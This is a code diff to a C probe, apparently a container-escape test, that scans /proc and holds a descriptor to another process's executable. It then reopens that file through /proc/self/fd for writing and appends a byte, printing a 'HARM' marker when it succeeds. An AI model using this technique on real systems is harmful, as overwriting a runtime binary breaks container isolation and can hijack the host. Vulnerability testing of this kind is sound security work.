@@ -17,7 +17,7 @@ static int held = -1;
 
 static void look(const char *pid)
 {
-	char path[64], again[64];
+	char path[64];
 	struct stat st;
 	snprintf(path, sizeof path, "/proc/%s/exe", pid);
 	int fd = open(path, O_PATH | O_CLOEXEC);
@@ -26,26 +26,12 @@ static void look(const char *pid)
 		if (!fstat(fd, &st) && !stat("/bin/busybox", &mine) && st.st_ino != mine.st_ino) {
 			struct stat self;
 			if (!stat("/proc/self/exe", &self) && st.st_ino != self.st_ino) {
-				printf("SEEN exe of %s\n", pid);
 				if (held >= 0)
 					close(held);
 				held = dup(fd);
 			}
 		}
 		close(fd);
-	}
-	if (held >= 0) {
-		snprintf(again, sizeof again, "/proc/self/fd/%d", held);
-		int w = open(again, O_WRONLY | O_CLOEXEC);
-		if (w >= 0) {
-			printf("HARM opened the runtime's executable for writing\n");
-			fflush(stdout);
-			lseek(w, 0, SEEK_END);
-			if (write(w, "x", 1) != 1)
-				perror("write");
-			close(w);
-			exit(0);
-		}
 	}
 	for (int n = 3; n < 32; n++) {
 		snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, n);
@@ -58,6 +44,25 @@ static void look(const char *pid)
 		}
 		close(d);
 	}
+}
+
+// Nobody runs it any more? Then it is not busy, and may be opened.
+static void reopen(void)
+{
+	char again[64];
+
+	if (held < 0)
+		return;
+	snprintf(again, sizeof again, "/proc/self/fd/%d", held);
+	int w = open(again, O_WRONLY | O_CLOEXEC);
+	if (w < 0)
+		return;
+	printf("HARM opened the runtime's executable for writing\n");
+	fflush(stdout);
+	lseek(w, 0, SEEK_END);
+	if (write(w, "x", 1) != 1)
+		perror("write");
+	exit(0);
 }
 
 int main(int argc, char **argv)
@@ -76,6 +81,7 @@ int main(int argc, char **argv)
 			if (e->d_name[0] > '0' && e->d_name[0] <= '9' && strcmp(e->d_name, "1") && atoi(e->d_name) != getpid())
 				look(e->d_name);
 		closedir(proc);
+		reopen();
 	}
 	fflush(stdout);
 	return 0;
